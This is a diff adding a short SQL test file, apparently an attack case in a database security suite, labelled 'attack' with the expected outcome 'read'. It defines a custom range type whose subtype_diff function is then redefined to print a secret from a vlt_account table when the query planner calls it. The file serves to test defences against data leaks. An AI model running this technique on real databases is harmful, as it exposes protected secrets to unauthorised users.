@@ -1,0 +1,11 @@
+-- Lets the planner estimate by the histogram of a range column, which calls subtype_diff.
+-- wants: read
+-- attack:
+CREATE FUNCTION f_diff(int, int) RETURNS float8 IMMUTABLE LANGUAGE plpgsql AS $$BEGIN RETURN $1 - $2; END$$;
+CREATE TYPE evilrange AS RANGE (subtype = int, subtype_diff = f_diff);
+CREATE TABLE ranged (r evilrange);
+INSERT INTO ranged SELECT evilrange(g, g + 2) FROM generate_series(1, 2000) g;
+ANALYZE ranged;
+CREATE OR REPLACE FUNCTION f_diff(int, int) RETURNS float8 IMMUTABLE LANGUAGE plpgsql AS $$BEGIN
+  RAISE NOTICE '%', (SELECT secret FROM public.vlt_account WHERE id = 1); RETURN $1 - $2; END$$;
+SELECT count(*) FROM ranged WHERE r && '[50,71)'::evilrange;
